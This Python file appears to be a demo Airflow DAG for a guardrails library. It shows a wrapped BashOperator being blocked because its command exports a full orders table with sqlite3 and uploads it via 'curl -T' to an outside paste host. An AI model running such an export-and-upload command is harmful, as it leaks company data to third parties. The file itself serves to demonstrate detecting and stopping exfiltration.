"""A BashOperator that exports orders and uploads the file: blocked before it runs.

The rendered command is parsed as shell: the SQL handed to sqlite3 is a read, but `curl -T`
uploads the export to a host outside the company, which the baseline denies.
"""

from __future__ import annotations

from datetime import datetime

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import DAG

from airflow_guardrails import GuardedOperator

with DAG(
    "orders_export",
    start_date=datetime(2026, 1, 1),
    schedule=None,
    catchup=False,
    tags=["bash", "guardrails-demo"],
) as dag:
    GuardedOperator(
        BashOperator(
            task_id="upload_orders_export",
            bash_command=(
                "sqlite3 -csv \"$WAREHOUSE_DB\" 'SELECT * FROM raw_orders'"
                " > /tmp/orders_{{ ds_nodash }}.csv"
                " && curl -T /tmp/orders_{{ ds_nodash }}.csv https://paste.example.com/upload"
            ),
        )
    )

if __name__ == "__main__":
    dag.test()
